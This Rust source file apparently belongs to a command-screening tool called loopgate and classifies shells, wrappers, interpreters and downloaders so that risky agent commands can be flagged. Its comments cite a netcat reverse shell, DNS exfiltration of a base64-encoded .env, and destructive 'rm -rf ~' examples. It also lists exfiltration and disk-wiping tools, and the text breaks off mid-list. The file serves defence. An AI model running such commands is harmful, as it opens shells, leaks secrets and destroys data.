//! The one model of programs: for each program loopgate knows, what role it plays (a
//! shell, a wrapper that runs another command, an interpreter that takes code, a
//! downloader, a launcher that runs commands through its own options, or a plain tool),
//! which of its options take a value, and which take code.
//!
//! Check mode (`check_mode`), agent mode (`agent`) and user rules (`rules`) all read this
//! table, so a program is described once. To add one, add an entry to [`TABLE`] (see
//! `docs/rule-packs.md`, "The program model").

/// What a program does with its arguments.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    /// `-c STRING`, a script operand and standard input are shell code.
    Shell,
    /// Runs another command given as its remaining words (after its own options and
    /// `positionals` leading operands), or a shell string given to one of `code`.
    Wrapper {
        positionals: usize,
        /// Options whose value is a shell command string (`su -c`, `flock -c`, `script -c`).
        code: &'static [&'static str],
    },
    /// Takes code in the language `lang` through `code` options, as its first operand
    /// (`awk`, `sed`) when `code_operand`, or on standard input.
    Interpreter {
        lang: Lang,
        code: &'static [&'static str],
        code_operand: bool,
    },
    /// Fetches content from the network.
    Downloader,
    /// Runs arbitrary commands through its own options or subcommands (`git -c alias.x=!`,
    /// `find -exec`, `docker run`, `ssh host cmd`); analysed by its own rules.
    Launcher,
    /// Known, and none of its options take code.
    Tool,
}

/// Languages whose inline code is screened for calls that write, delete or spawn.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lang {
    Python,
    JavaScript,
    Ruby,
    Perl,
    Php,
    Lua,
    R,
    Julia,
    AppleScript,
    Tcl,
    Awk,
    Sed,
    Vim,
    Elisp,
    Gdb,
    Make,
    /// `pwsh -c`, `powershell -Command` (`agent/windows.rs`).
    PowerShell,
    /// `cmd /c`.
    Cmd,
}

impl Lang {
    /// The interpreter runs a program file named as its first operand (`python t.py`,
    /// `node t.js`), as a shell runs a script. `osascript FILE` is not listed: the shell
    /// analysis adds it where it needs it.
    pub fn takes_script_file(self) -> bool {
        matches!(
            self,
            Lang::Python
                | Lang::JavaScript
                | Lang::Ruby
                | Lang::Perl
                | Lang::Php
                | Lang::Lua
                | Lang::R
                | Lang::Julia
                | Lang::Tcl
        )
    }
}

#[derive(Debug, Clone, Copy)]
pub struct Program {
    pub names: &'static [&'static str],
    pub role: Role,
    /// Options that take the next word as their value (`-t DIR`, `--target-directory DIR`);
    /// short ones also take the rest of a cluster (`-tDIR`, `-rtDIR`), long ones `=VALUE`,
    /// and long ones may be abbreviated as GNU getopt allows (`--target`).
    pub values: &'static [&'static str],
    /// Subcommands after which the remaining words are a command the program runs
    /// (`uv run CMD`, `npm exec -- CMD`, `bundle exec CMD`); `""` when the operands
    /// themselves are the command (`npx PKG ARGS`). `"exec:1"`: one operand (a
    /// directory, an environment name) comes before the command.
    pub runs: &'static [&'static str],
    /// Options whose value is a shell command the program runs (`tar --to-command`,
    /// `rsync -e`, `zip -TT`, `nix-shell --run`).
    pub shell_opts: &'static [&'static str],
    /// `(subcommand, flag)`: after the subcommand, the flag makes the command that
    /// follows one shell string (`pnpm exec --shell-mode 'a && b'`, `deno task --eval`).
    pub shell_modes: &'static [(&'static str, &'static str)],
    /// The command a `shell_opts` option runs reads the program's network connection on
    /// its standard input (`nc -e /bin/sh HOST PORT`): code from the other end.
    pub connection_in: bool,
}

const fn p(names: &'static [&'static str], role: Role, values: &'static [&'static str]) -> Program {
    Program {
        names,
        role,
        values,
        runs: &[],
        shell_opts: &[],
        shell_modes: &[],
        connection_in: false,
    }
}

/// A tool that runs commands through a subcommand (`uv run`, `npm exec`): see
/// [`Program::runs`].
const fn runner(
    names: &'static [&'static str],
    runs: &'static [&'static str],
    values: &'static [&'static str],
) -> Program {
    Program {
        runs,
        ..p(names, Role::Tool, values)
    }
}

/// A tool with options whose value is a shell command: see [`Program::shell_opts`].
const fn tool_with_shell(
    names: &'static [&'static str],
    shell_opts: &'static [&'static str],
    values: &'static [&'static str],
) -> Program {
    Program {
        shell_opts,
        ..p(names, Role::Tool, values)
    }
}

const fn wrapper(
    names: &'static [&'static str],
    positionals: usize,
    code: &'static [&'static str],
    values: &'static [&'static str],
) -> Program {
    p(names, Role::Wrapper { positionals, code }, values)
}

const fn interp(
    names: &'static [&'static str],
    lang: Lang,
    code: &'static [&'static str],
    code_operand: bool,
    values: &'static [&'static str],
) -> Program {
    p(
        names,
        Role::Interpreter {
            lang,
            code,
            code_operand,
        },
        values,
    )
}

const fn tool(names: &'static [&'static str]) -> Program {
    p(names, Role::Tool, &[])
}

/// Every program loopgate knows. Order does not matter; a name appears once.
pub const TABLE: &[Program] = &[
    // Shells.
    p(
        &[
            "sh",
            "bash",
            "rbash",
            "zsh",
            "rzsh",
            "dash",
            "ksh",
            "mksh",
            "pdksh",
            "ash",
            "yash",
            "fish",
            "csh",
            "tcsh",
            "rc",
            "es",
            "nu",
            "elvish",
            "xonsh",
            "osh",
            "pwsh",
            "powershell",
            "cmd",
        ],
        Role::Shell,
        &["-o", "+o", "-O", "+O", "--rcfile", "--init-file"],
    ),
    // Multi-call binaries: the first operand is the program.
    wrapper(&["busybox", "toybox"], 0, &[], &[]),
    // Wrappers.
    wrapper(
        &["env"],
        0,
        &["-S", "--split-string"],
        &["-u", "--unset", "-C", "--chdir"],
    ),
    wrapper(
        &["sudo", "doas"],
        0,
        &[],
        &[
            "-u",
            "-g",
            "-C",
            "-h",
            "-p",
            "-r",
            "-t",
            "-U",
            "-T",
            "-D",
            "--user",
            "--group",
            "--chdir",
            "--host",
            "--prompt",
            "--role",
            "--type",
            "--other-user",
            "--close-from",
        ],
    ),
    wrapper(
        &["su"],
        1,
        &["-c", "--command", "--session-command"],
        &[
            "-s",
            "--shell",
            "-g",
            "--group",
            "-G",
            "--supp-group",
            "-w",
            "--whitelist-environment",
        ],
    ),
    wrapper(
        &["runuser"],
        0,
        &["-c", "--command", "--session-command"],
        &[
            "-u",
            "--user",
            "-g",
            "--group",
            "-G",
            "--supp-group",
            "-s",
            "--shell",
            "-w",
            "--whitelist-environment",
        ],
    ),
    wrapper(&["sg"], 1, &["-c"], &[]),
    wrapper(
        &["flock"],
        1,
        &["-c", "--command"],
        &["-w", "--timeout", "-E", "--conflict-exit-code"],
    ),
    wrapper(
        &["unshare"],
        0,
        &[],
        &[
            "--propagation",
            "--setgroups",
            "-S",
            "--setuid",
            "-G",
            "--setgid",
            "--map-user",
            "--map-group",
            "--map-users",
            "--map-groups",
            "-R",
            "--root",
            "-w",
            "--wd",
        ],
    ),
    wrapper(
        &["nsenter"],
        0,
        &[],
        &["-t", "--target", "-S", "--setuid", "-G", "--setgid"],
    ),
    wrapper(&["chroot"], 1, &[], &["--userspec", "--groups"]),
    wrapper(&["prlimit"], 0, &[], &["-p", "--pid", "-o", "--output"]),
    wrapper(
        &["setpriv"],
        0,
        &[],
        &[
            "--reuid",
            "--regid",
            "--ruid",
            "--rgid",
            "--euid",
            "--egid",
            "--groups",
            "--inh-caps",
            "--ambient-caps",
            "--bounding-set",
            "--securebits",
            "--selinux-label",
            "--apparmor-profile",
            "--pdeathsig",
        ],
    ),
    wrapper(
        &["strace"],
        0,
        &[],
        &[
            "-e", "-o", "-p", "-s", "-u", "-E", "-a", "-b", "-I", "-O", "-P", "-S", "-X", "-U",
            "--output", "--trace", "--signal", "--user",
        ],
    ),
    wrapper(
        &["ltrace"],
        0,
        &[],
        &[
            "-e", "-o", "-p", "-s", "-u", "-a", "-n", "-A", "-D", "-F", "-L", "--output",
        ],
    ),
    wrapper(
        &[
            "valgrind",
            "catchsegv",
            "fakeroot",
            "torsocks",
            "dbus-run-session",
        ],
        0,
        &[],
        &["-l", "-s", "-i", "--config-file"],
    ),
    // macOS's `caffeinate -dimsu CMD`: its flags are switches; only `-t` and `-w` take a value.
    wrapper(&["caffeinate"], 0, &[], &["-t", "-w"]),
    wrapper(&["proxychains", "proxychains4"], 0, &[], &["-f"]),
    wrapper(
        &["systemd-run"],
        0,
        &[],
        &[
            "-u",
            "--unit",
            "-p",
            "--property",
            "-E",
            "--setenv",
            "-M",
            "--machine",
            "--description",
            "--slice",
            "--working-directory",
            "--uid",
            "--gid",
            "--nice",
        ],
    ),
    wrapper(
        &["xvfb-run"],
        0,
        &[],
        &["-n", "-s", "-e", "-f", "-p", "--server-num"],
    ),
    wrapper(&["pkexec"], 0, &[], &["--user"]),
    wrapper(
        &["timeout"],
        1,
        &[],
        &["-s", "-k", "--signal", "--kill-after"],
    ),
    wrapper(&["nice"], 0, &[], &["-n", "--adjustment"]),
    wrapper(
        &["ionice"],
        0,
        &[],
        &[
            "-c",
            "-n",
            "-p",
            "-P",
            "-u",
            "--class",
            "--classdata",
            "--pid",
            "--pgid",
            "--uid",
        ],
    ),
    wrapper(&["chrt", "taskset"], 1, &[], &[]),
    wrapper(
        &["numactl", "cgexec"],
        0,
        &[],
        &["-g", "-C", "-m", "-N", "-i", "-p"],
    ),
    wrapper(&["nohup", "setsid", "unbuffer", "builtin"], 0, &[], &[]),
    // Netcat hands its connection to a program it starts: `-e PROG`, `-c CMD`, ncat's
    // `--sh-exec`/`--lua-exec` (OpenBSD's `-c`/`-e` are TLS settings; read as commands
    // they only name a harmless one).
    Program {
        connection_in: true,
        ..tool_with_shell(
            &["nc", "ncat", "netcat"],
            &["-e", "-c", "--exec", "--sh-exec", "--lua-exec"],
            &[
                "-p",
                "-s",
                "-w",
                "-i",
                "-q",
                "-x",
                "-X",
                "-P",
                "-I",
                "-O",
                "-T",
                "--source",
                "--source-port",
                "--wait",
                "--proxy",
                "--proxy-type",
                "--proxy-auth",
            ],
        )
    },
    // Reruns its command when files change; `-s` makes the command one shell string.
    wrapper(&["entr"], 0, &["-s"], &[]),
    wrapper(&["stdbuf"], 0, &[], &["-i", "-o", "-e"]),
    wrapper(&["exec"], 0, &[], &["-a"]),
    wrapper(&["time"], 0, &[], &["-o", "-f", "--output", "--format"]),
    wrapper(&["command"], 0, &[], &[]),
    wrapper(&["firejail"], 0, &[], &[]),
    // Run the rest as another user, under a fake clock, a readline wrapper, an agent
    // session or a notifier: `gosu root git clean -fdx`, `faketime now git reset --hard`.
    wrapper(&["gosu", "su-exec", "faketime"], 1, &[], &["-f"]),
    wrapper(
        &[
            "rlwrap",
            "chronic",
            "ssh-agent",
            "dbus-launch",
            "daemonize",
            "ts-run",
        ],
        0,
        &[],
        &["-a", "-f", "-H", "-P", "-S", "-t", "-E"],
    ),
    wrapper(
        &["nix-shell"],
        0,
        &["--run", "--command"],
        &[
            "-p",
            "--packages",
            "-A",
            "--attr",
            "-I",
            "--arg",
            "--argstr",
        ],
    ),
    wrapper(&["gdbserver"], 1, &[], &[]),
    // `xargs`, `parallel`, `watch`, `eval`, `source`, `find` and `git` have rules of
    // their own in agent mode; they are listed so every seat knows what they are.
    wrapper(
        &["xargs"],
        0,
        &[],
        &[
            "-I",
            "-n",
            "-P",
            "-d",
            "-L",
            "-l",
            "-s",
            "-a",
            "-E",
            "-e",
            "--max-args",
            "--max-procs",
            "--delimiter",
            "--arg-file",
            "--replace",
            "--max-lines",
            "--max-chars",
            "--eof",
        ],
    ),
    wrapper(
        &["parallel", "sem"],
        0,
        &[],
        &["-j", "--jobs", "-S", "--sshlogin"],
    ),
    wrapper(
        &["watch"],
        0,
        &[],
        &["-n", "--interval", "-d", "--differences"],
    ),
    wrapper(&["eval", "source", ".", "trap"], 0, &[], &[]),
    wrapper(
        &["script"],
        0,
        &["-c", "--command"],
        &[
            "-t",
            "--timing",
            "-T",
            "--log-timing",
            "-I",
            "--log-in",
            "-O",
            "--log-out",
            "-B",
            "--log-io",
            "-m",
            "--logging-format",
            "-E",
            "--echo",
        ],
    ),
    // Package runners that download and run.
    wrapper(&["uvx", "pnpx", "bunx", "dlx"], 0, &[], &[]),
    // Package managers and environment tools that run a command through a subcommand.
    Program {
        shell_opts: &["-c", "--call"],
        ..runner(&["npx"], &[""], &["-p", "--package"])
    },
    Program {
        shell_opts: &["-c", "--call"],
        ..runner(
            &["npm"],
            &["exec", "x"],
            &["-p", "--package", "-w", "--workspace", "--prefix"],
        )
    },
    Program {
        shell_modes: &[("exec", "--shell-mode"), ("exec", "-c")],
        ..runner(
            &["pnpm"],
            &["exec", "dlx"],
            &["-C", "--dir", "--filter", "-F"],
        )
    },
    runner(
        &["yarn"],
        &["exec", "dlx"],
        &["-C", "--dir", "--filter", "-F"],
    ),
    runner(
        &["tox"],
        &["exec"],
        &[
            "-e",
            "--env",
            "-c",
            "--conf",
            "--root",
            "--workdir",
            "-x",
            "--override",
            "-m",
            "--labels",
            "-f",
            "--factors",
        ],
    ),
    runner(
        &["uv"],
        &["run", "tool run"],
        &[
            "--with",
            "--python",
            "-p",
            "--project",
            "--directory",
            "--env-file",
            "--package",
            "--from",
        ],
    ),
    runner(
        &["poetry", "pdm", "hatch", "pixi", "rye", "pipenv"],
        &["run"],
        &["-C", "--directory", "-e", "--env"],
    ),
    runner(&["pipx"], &["run"], &["--spec", "--python"]),
    runner(
        &["conda", "mamba", "micromamba"],
        &["run"],
        &["-n", "--name", "-p", "--prefix"],
    ),
    runner(&["bundle"], &["exec"], &["--gemfile"]),
    // Known so their install options are judged (`agent/output_options.rs`); each also
    // runs a command of its own (`composer exec rm -rf ~` is `rm -rf ~`).
    runner(&["composer"], &["exec"], &["-d", "--working-dir"]),
    runner(&["gem"], &["exec"], &["-v", "--version"]),
    runner(&["rustup"], &["run:1"], &[]),
    runner(
        &["volta"],
        &["run"],
        &[
            "--node",
            "--npm",
            "--yarn",
            "--pnpm",
            "--bundled-npm",
            "--env",
        ],
    ),
    runner(
        &["mise", "rtx", "asdf"],
        &["exec", "x"],
        &["-C", "--cd", "-E", "--env"],
    ),
    runner(&["direnv"], &["exec:1"], &[]),
    // Interpreters.
    interp(
        &["python", "python2", "python3", "pypy", "pypy3"],
        Lang::Python,
        &["-c"],
        false,
        &["-c", "-m", "-W", "-X", "-Q"],
    ),
    interp(
        &["node", "nodejs"],
        Lang::JavaScript,
        &["-e", "--eval", "-p", "--print"],
        false,
        &[
            "-e",
            "--eval",
            "-p",
            "--print",
            "-r",
            "--require",
            "--import",
            "--loader",
            "--experimental-loader",
            "-C",
            "--conditions",
            "--env-file",
            "--test-reporter",
            "--test-reporter-destination",
            "--title",
            "--input-type",
        ],
    ),
    Program {
        // `bun x PKG ARGS` is `bunx PKG ARGS`.
        runs: &["x"],
        ..interp(
            &["bun"],
            Lang::JavaScript,
            &["-e", "--eval", "-p", "--print"],
            false,
            &[
                "-e",
                "--eval",
                "-p",
                "--print",
                "-r",
                "--preload",
                "--require",
                "--cwd",
            ],
        )
    },
    Program {
        shell_modes: &[("task", "--eval")],
        ..interp(&["deno"], Lang::JavaScript, &[], false, &[])
    },
    interp(
        &["ruby", "jruby", "irb"],
        Lang::Ruby,
        &["-e"],
        false,
        &["-e", "-I", "-r", "-C", "-E", "-F", "--require"],
    ),
    interp(
        &["perl"],
        Lang::Perl,
        &["-e", "-E"],
        false,
        &["-e", "-E", "-I", "-M", "-m", "-x", "-C"],
    ),
    interp(
        &["php"],
        Lang::Php,
        &["-r", "-B", "-R", "-E", "--run"],
        false,
        &[
            "-r", "-B", "-R", "-E", "-F", "-d", "-c", "-z", "-t", "--run", "--define",
        ],
    ),
    interp(&["lua", "luajit"], Lang::Lua, &["-e"], false, &["-e", "-l"]),
    interp(&["rscript", "r"], Lang::R, &["-e"], false, &["-e"]),
    interp(
        &["julia"],
        Lang::Julia,
        &["-e", "--eval", "-E", "--print"],
        false,
        &[
            "-e",
            "--eval",
            "-E",
            "--print",
            "-L",
            "--load",
            "-J",
            "-t",
            "--threads",
        ],
    ),
    interp(
        &["osascript"],
        Lang::AppleScript,
        &["-e"],
        false,
        &["-e", "-l"],
    ),
    interp(&["tclsh", "wish", "expectk"], Lang::Tcl, &[], false, &[]),
    // `expect -c CMDS` runs Tcl (`spawn rm -rf ~`), as does its script file.
    interp(&["expect"], Lang::Tcl, &["-c"], false, &["-c", "-f"]),
    interp(
        &["awk", "gawk", "mawk", "nawk"],
        Lang::Awk,
        &["-e", "--source"],
        true,
        &[
            "-F",
            "-v",
            "-f",
            "-e",
            "-i",
            "-l",
            "--file",
            "--field-separator",
            "--assign",
            "--source",
            "--include",
            "--load",
        ],
    ),
    interp(
        &["sed", "gsed"],
        Lang::Sed,
        &["-e", "--expression"],
        true,
        &["-e", "-f", "--expression", "--file", "-l", "--line-length"],
    ),
    // `-s` is left out of the values: after `-e` (`-es`, Ex mode) it is a flag, and
    // taking a value there would swallow the `-c` that follows.
    interp(
        &["vim", "nvim", "vi", "ex", "view", "gvim", "vimdiff", "rvim"],
        Lang::Vim,
        &["-c", "--cmd"],
        false,
        &[
            "-c", "--cmd", "-S", "-u", "-U", "-i", "-T", "-w", "-W", "-t", "-q",
        ],
    ),
    interp(
        &["emacs"],
        Lang::Elisp,
        &["--eval", "-eval", "--execute"],
        false,
        &[
            "--eval",
            "-eval",
            "--execute",
            "-l",
            "--load",
            "-f",
            "--funcall",
            "-L",
        ],
    ),
    interp(
        &["gdb"],
        Lang::Gdb,
        &["-ex", "--eval-command", "-iex", "--init-eval-command"],
        false,
        &[
            "-ex",
            "--eval-command",
            "-iex",
            "--init-eval-command",
            "-x",
            "-ix",
            "-p",
            "--pid",
            "-c",
            "--core",
        ],
    ),
    interp(
        &["lldb"],
        Lang::Gdb,
        &[
            "-o",
            "--one-line",
            "-O",
            "--one-line-before-file",
            "-k",
            "--one-line-on-crash",
        ],
        false,
        &[
            "-o",
            "--one-line",
            "-O",
            "--one-line-before-file",
            "-k",
            "--one-line-on-crash",
            "-s",
            "--source",
            "-S",
            "--source-before-file",
            "-p",
            "--attach-pid",
            "-n",
            "--attach-name",
            "-c",
            "--core",
            "-a",
            "--arch",
        ],
    ),
    interp(
        &["make", "gmake"],
        Lang::Make,
        &["-E", "--eval"],
        false,
        &[
            "-E",
            "--eval",
            "-f",
            "--file",
            "--makefile",
            "-C",
            "--directory",
            "-j",
            "--jobs",
            "-l",
            "-o",
            "-W",
            "-I",
        ],
    ),
    // Downloaders.
    p(
        &[
            "curl",
            "wget",
            "fetch",
            "aria2c",
            "http",
            "https",
            "xh",
            "lwp-request",
        ],
        Role::Downloader,
        &[],
    ),
    // Launchers: rules of their own (loopgate's own `exec`, `run` and `jail-shell` run
    // commands: `crate::own_cli`).
    p(
        &[
            "git", "find", "docker", "podman", "kubectl", "ssh", "loopgate",
        ],
        Role::Launcher,
        &[],
    ),
    // Tools with options whose value is a shell command.
    tool_with_shell(
        &["tar", "bsdtar"],
        &[
            "--to-command",
            "--checkpoint-action",
            "-I",
            "--use-compress-program",
            "--rsh-command",
            "-F",
            "--info-script",
            "--new-volume-script",
        ],
        &[
            "-f",
            "--file",
            "-C",
            "--directory",
            "-T",
            "--files-from",
            "-X",
            "--exclude-from",
        ],
    ),
    tool_with_shell(&["rsync"], &["-e", "--rsh"], &[]),
    tool_with_shell(&["zip"], &["-TT", "--unzip-command"], &[]),
    // `man -P CMD` runs CMD as the pager.
    tool_with_shell(
        &["man"],
        &["-P", "--pager"],
        &["-M", "-S", "-L", "-m", "-p", "-C"],
    ),
    // `.shell CMD` and `.system CMD` in its SQL run a shell command.
    tool(&["sqlite3"]),
    // Known so their operands are judged as the files they delete or rewrite.
    tool(&[
        "shred",
        "unlink",
        "mkfifo",
        "mknod",
        "chattr",
        "setfacl",
        "sponge",
        "ed",
        "rimraf",
        "coreutils",
        "rename",
        "prename",
        "file-rename",
        "perl-rename",
        "crontab",
        // Extractors whose destination is an operand (`agent/writes.rs`).
        "unrar",
        "rar",
        "dpkg",
        "dpkg-deb",
        // Deleters run from the npm registry (`npx rimraf`, `pnpm dlx del-cli`).
        "del-cli",
        "trash",
        "trash-put",
        // Formatting, partitioning and erasing tools: each rewrites the device (or
        // image file) it names (`agent/writes.rs`).
        "mkfs",
        "mkfs.ext2",
        "mkfs.ext3",
        "mkfs.ext4",
        "mkfs.xfs",
        "mkfs.btrfs",
        "mkfs.vfat",
        "mkfs.fat",
        "mkfs.msdos",
        "mkfs.ntfs",
        "mkfs.exfat",
        "mkfs.f2fs",
        "mke2fs",
        "mkdosfs",
        "mkntfs",
        "mkswap",
        "wipefs",
        "blkdiscard",
        "parted",
        "fdisk",
        "sfdisk",
        "gdisk",
        "sgdisk",
        "cfdisk",
    ]),
    // Tools whose `-c` / `-e` / `--eval`-looking options are not code.
    tool(&[
        "gcc",
        "cc",
        "c++",
        "g++",
        "clang",
        "clang++",
        "rustc",
        "javac",
        "java",
        "tsc",
        "tcc",
        "gfortran",
        "nasm",
        "swiftc",
        "kotlinc",
        "pandoc",
        "m4",
        "ld",
        "as",
        "ar",
        "grep",
        "egrep",
        "fgrep",
        "rg",
        "ag",
        "ack",
        "unzip",
        "gzip",
        "gunzip",
        "bzip2",
        "xz",
        "zstd",
        "lz4",
        "bunzip2",
        "unxz",
        "lzma",
        "unlzma",
        "lzip",
        "compress",
        "uncompress",
        "unzstd",
        "cat",
        "echo",
        "printf",
        "ls",
        "cut",
        "wc",
        "head",
        "tail",
        "sort",
        "uniq",
        "tr",
        "tee",
        "paste",
        "join",
        "comm",
        "cmp",
        "diff",
        "patch",
        "od",
        "xxd",
        "hexdump",
        "file",
        "stat",
        "du",
        "df",
        "date",
        "jq",
        "yq",
        "dos2unix",
        "unix2dos",
        "mac2unix",
        "unix2mac",
        "cpio",
        "7z",
        "7za",
        "7zr",
        "rustfmt",
        "gofmt",
        "goimports",
        "clang-format",
        "shfmt",
        "taplo",
        "isort",
        "autopep8",
        "stylelint",
        "biome",
        "base64",
        "openssl",
        "ps",
        "kill",
        "pkill",
        "pgrep",
        "cp",
        "mv",
        "rm",
        "ln",
        "mkdir",
        "rmdir",
        "touch",
        "chmod",
        "chown",
        "chgrp",
        "install",
        "scp",
        "dd",
        "truncate",
        "split",
        "csplit",
        "nl",
        "fold",
        "fmt",
        "column",
        "seq",
        "sleep",
        "true",
        "false",
        "test",
        "[",
        "expr",
        "basename",
        "dirname",
        "realpath",
        "readlink",
        "which",
        "type",
        "whoami",
        "id",
        "uname",
        "hostname",
        "pytest",
        "mypy",
        "ruff",
        "black",
        "flake8",
        "pylint",
        "eslint",
        "prettier",
        "jest",
        "vitest",
        "mocha",
        "pip",
        "pip3",
        "apt",
        "apt-get",
        "brew",
        "dnf",
        "yum",
        "psql",
        "mysql",
        "redis-cli",
        "mongosh",
        "mongo",
        "aws",
        "gcloud",
        "az",
        "terraform",
        "tofu",
        "pulumi",
        "helm",
        "gh",
        "dropdb",
        "createdb",
        "pg_dump",
        "mysqldump",
        "ninja",
        "meson",
        "ctest",
        "nox",
        "cd",
        "pushd",
        "popd",
        "pwd",
        "export",
        "unset",
        "set",
        "shift",
        "read",
        "wait",
        "jobs",
        "exit",
        "return",
        "local",
        "declare",
        "typeset",
        "readonly",
        "shopt",
        "ulimit",
        "umask",
        "getopts",
        "printenv",
        "tput",
        "clear",
        "less",
        "more",
        "tree",
        "fd",
        "bat",
        "delta",
        "sha256sum",
        "sha1sum",
        "md5sum",
        "b2sum",
        "cksum",
        "strings",
        "nm",
        "objdump",
        "readelf",
        "ldd",
        "strip",
        "lsof",
        "free",
        "top",
        "htop",
        "uptime",
        "nproc",
        "cargo",
        "go",
        "mix",
        "just",
        "cmake",
        "mvn",
        "mvnw",
        "gradle",
        "gradlew",
        "dasel",
        "rake",
        "dotnet",
    ]),
];

/// The name a program is looked up by: the base name of a path, without a Windows
/// `.exe`, lower-cased only in that Windows spelling.
pub fn base_name(word: &str) -> &str {
    word.rsplit(['/', '\\']).next().unwrap_or(word)
}

/// `python3.12` -> `python3`; `gcc-12` -> `gcc`; `Python.EXE` -> `python`. The
/// candidates are tried in order; the first known one wins.
pub fn candidates(word: &str) -> Vec<String> {
    let base = base_name(word);
    let lower = base.to_ascii_lowercase();
    let base = match lower.strip_suffix(".exe") {
        Some(stem) => stem.to_string(),
        None => base.to_string(),
    };
    let mut out = vec![base.clone()];
    let no_dotted = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if no_dotted.len() < base.len() && base[no_dotted.len()..].contains('.') {
        // `python3.12` -> `python3`: keep the major version.
        let major = base
            .split_once('.')
            .map(|(m, _)| m.to_string())
            .unwrap_or_default();
        if !major.is_empty() {
            out.push(major);
        }
    }
    let bare = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-');
    if !bare.is_empty() && bare != base {
        out.push(bare.to_string());
    }
    let lowered = base.to_ascii_lowercase();
    if lowered != base {
        out.push(lowered);
    }
    out
}

/// The program `word` (a command word: a name or a path) names, if loopgate knows it,
/// with the name it was found under.
pub fn lookup(word: &str) -> Option<(&'static Program, String)> {
    for name in candidates(word) {
        if let Some(prog) = TABLE.iter().find(|p| p.names.contains(&name.as_str())) {
            return Some((prog, name));
        }
    }
    None
}

/// The normalised name of `word`: its table name when known, else its base name.
pub fn normalise(word: &str) -> String {
    match lookup(word) {
        Some((_, name)) => name,
        None => candidates(word).remove(0),
    }
}

pub fn role(word: &str) -> Option<Role> {
    lookup(word).map(|(p, _)| p.role)
}

pub fn is_shell(word: &str) -> bool {
    role(word) == Some(Role::Shell)
}

/// Runs another program or a string of code: a wrapper, or a multi-call binary.
pub fn is_wrapper(word: &str) -> bool {
    matches!(role(word), Some(Role::Wrapper { .. }))
}

pub fn is_interpreter(word: &str) -> bool {
    matches!(role(word), Some(Role::Interpreter { .. }))
}

/// Does long option `given` (`--recurs`, `--target=x`'s name part) stand for `full`
/// (`--recursive`)? GNU getopt accepts any unambiguous prefix; loopgate accepts any prefix
/// of at least one letter, so an ambiguous one (which the program refuses) errs towards
/// the rule.
pub fn long_matches(given: &str, full: &str) -> bool {
    let name = given.split('=').next().unwrap_or(given);
    name == full || (name.len() >= 3 && name.starts_with("--") && full.starts_with(name))
}

/// Programs that run code in a language loopgate does not screen (Lisps, Prologs, ML,
/// the JVM's shell, a C interpreter, build scripts), and how that code reaches them. Any
/// code they get this way is asked about (`exec.inline`), whatever it says: nothing can
/// vet it. A script file named on the command line is the program's own business, as
/// `sh t.sh` is.
pub struct OpaqueCode {
    pub names: &'static [&'static str],
    /// Options whose value is code (`clisp -x`, `swipl -g`, `rake -e`).
    pub code: &'static [&'static str],
    /// Options whose value is a script file (`tcc -run FILE`, `cmake -P FILE`): code when
    /// that file is standard input.
    pub script: &'static [&'static str],
    /// With no operand, standard input is read as code (a REPL fed a pipe).
    pub stdin_repl: bool,
}

pub const OPAQUE_CODE: &[OpaqueCode] = &[
    OpaqueCode {
        names: &["clisp"],
        code: &["-x"],
        script: &[],
        stdin_repl: true,
    },
    OpaqueCode {
        names: &["sbcl", "ecl", "ccl", "lisp"],
        code: &["--eval", "-eval", "-e"],
        script: &["--script", "--load", "-load"],
        stdin_repl: true,
    },
    OpaqueCode {
        names: &["swipl", "gprolog", "yap"],
        code: &[
            "-g",
            "-t",
            "--goal",
            "--query-goal",
            "--entry-goal",
            "--init-goal",
        ],
        script: &[],
        stdin_repl: true,
    },
    OpaqueCode {
        names: &["guile", "racket", "scheme", "chez", "petite", "csi", "gsi"],
        code: &["-c", "-e", "--eval"],
        script: &[],
        stdin_repl: true,
    },
    OpaqueCode {
        names: &[
            "ocaml", "utop", "ghci", "jshell", "scala", "kotlin", "groovysh", "gnuplot",
        ],
        code: &["-e", "--eval"],
        script: &[],
        stdin_repl: true,
    },
    OpaqueCode {
        names: &["elixir", "iex", "erl"],
        code: &["-e", "--eval", "-eval"],
        script: &[],
        stdin_repl: false,
    },
    OpaqueCode {
        names: &["mix"],
        code: &["-e", "--eval"],
        script: &[],
        stdin_repl: false,
    },
    OpaqueCode {
        names: &["rake"],
        code: &[
            "-e",
            "--execute",
            "-E",
            "--execute-continue",
            "-p",
            "--execute-print",
        ],
        script: &[],
        stdin_repl: false,
    },
    OpaqueCode {
        names: &["tcc"],
        code: &[],
        script: &["-run"],
        stdin_repl: false,
    },
    OpaqueCode {
        names: &["cmake"],
        code: &[],
        script: &["-P"],
        stdin_repl: false,
    },
    OpaqueCode {
        names: &["matlab", "octave"],
        code: &["-batch", "-r", "--eval"],
        script: &[],
        stdin_repl: false,
    },
];

/// The names a program uses for its standard input as a file.
pub fn is_stdin_file(t: &str) -> bool {
    matches!(t, "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0")
}

/// Option words that hand a program code, for programs loopgate does not know.
pub const CODE_SHAPED_OPTIONS: &[&str] =
    &["-c", "-e", "--eval", "--exec", "--command", "-ex", "-eval"];

/// A wrapper that, given no command, starts a shell of its own which reads standard input
/// as code: `sudo -s`, `sudo -i`, `doas -s`, and `su`/`runuser` (their command comes only
/// through `-c`). `words` are the wrapper's words after its name.
pub fn shell_without_command(name: &str, words: &[&str]) -> bool {
    match name {
        "sudo" | "doas" => words.iter().any(|w| {
            matches!(*w, "--shell" | "--login")
                || (w.starts_with('-') && !w.starts_with("--") && w[1..].contains(['s', 'i']))
        }),
        "su" | "runuser" => true,
        _ => false,
    }
}

/// A value that reads as code rather than as a name: it holds a separator, a call, a
/// quote or whitespace between words.
pub fn looks_like_code(value: &str) -> bool {
    value.contains([
        ';', '|', '&', '(', ')', '`', '$', '{', '}', '\n', '<', '>', '=', '\'', '"',
    ]) || value.trim().contains(char::is_whitespace)
}

/// Programs that send data to another machine whatever their operands (besides the
/// downloaders, which upload as readily as they fetch: `curl -T`, `wget --post-file`).
const SENDERS: &[&str] = &[
    "scp", "sftp", "ftp", "lftp", "tftp", "telnet", "nc", "ncat", "netcat", "socat", "rclone",
    // Mail: a file attached or fed is sent to a mailbox.
    "mail", "mailx", "mutt", "sendmail", "msmtp", "swaks",
    // DNS lookups: a name built from a secret (`dig $(base64 .env).x.example`) reaches
    // whoever serves the zone.
    "dig", "nslookup", "host", "drill",
    // Object storage CLIs copy local files to buckets.
